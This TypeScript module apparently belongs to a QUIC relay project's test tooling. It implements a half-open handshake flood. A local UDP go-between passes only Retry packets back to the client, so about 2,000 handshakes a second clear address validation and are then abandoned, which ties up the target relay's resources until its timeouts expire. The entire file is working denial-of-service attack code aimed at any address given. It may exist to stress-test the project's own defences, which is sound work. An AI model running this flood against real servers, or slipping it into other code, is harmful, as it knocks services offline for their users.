/**
 * Handshakes that stop half way, as many as wanted from one socket: our own client behind a go-between that lets
 * everything out and nothing in but Retry (RFC 9000 section 17.2.5).
 *
 *   client ── Initial ──▶ go-between ── Initial ─────────▶ relay
 *          ◀── Retry ───             ◀── Retry ──────────
 *          ── Initial, token ───────▶ ──────────────────▶   the address is validated: a handshake is in progress
 *                                  ✕ ◀── its whole flight    and stays so until the relay's patience ends
 */
import { createSocket } from "node:dgram";
import type { RemoteInfo, Socket } from "node:dgram";
import { once } from "node:events";
import { setTimeout as pause } from "node:timers/promises";
import { openQuicEndpoint } from "../../shared/native/addon.ts";
import type { TlsMaterial } from "../../shared/native/quic.ts";

/** Begun in one go, and the pause after them in milliseconds: 2,000 a second, which costs the attacker a core. */
const BURST = 20;
const BURST_PAUSE_MS = 10;
/** A burst with its answers fits in. Bytes. */
const SOCKET_BYTES = 4 << 20;
/** The first bits of a long header of version 1, and those of a Retry. */
const LONG_TYPE_MASK = 0xf0;
const RETRY = 0xf0;

/** Begins `count` handshakes with `remote` (`address:port`, IPv4), says nothing more, and vanishes. */
export async function beginHalfHandshakes(
  remote: string,
  serverName: string,
  tls: TlsMaterial,
  count: number,
): Promise<void> {
  const [address = "", port = ""] = remote.split(":");
  const inside = await bound("127.0.0.1");
  const outside = await bound("0.0.0.0");
  let client: RemoteInfo | undefined;
  inside.on("message", (datagram, from) => {
    client = from;
    outside.send(datagram, Number(port), address);
  });
  outside.on("message", (datagram) => {
    if (client === undefined || ((datagram[0] ?? 0) & LONG_TYPE_MASK) !== RETRY) return;
    inside.send(datagram, client.port, client.address);
  });
  const endpoint = openQuicEndpoint({ bind: "127.0.0.1:0", alpn: ["h3"] });
  const goBetween = `127.0.0.1:${inside.address().port}`;
  for (let begun = 0; begun < count; begun++) {
    endpoint.connect(goBetween, serverName, tls).catch(() => {}); // As planned.
    if (begun % BURST === BURST - 1) await pause(BURST_PAUSE_MS);
  }
  // The sockets first: nobody says goodbye to the relay.
  inside.close();
  outside.close();
  await endpoint.close(0, "");
}

async function bound(address: string): Promise<Socket> {
  const socket = createSocket({ type: "udp4", recvBufferSize: SOCKET_BYTES, sendBufferSize: SOCKET_BYTES });
  socket.bind(0, address);
  await once(socket, "listening");
  return socket;
}
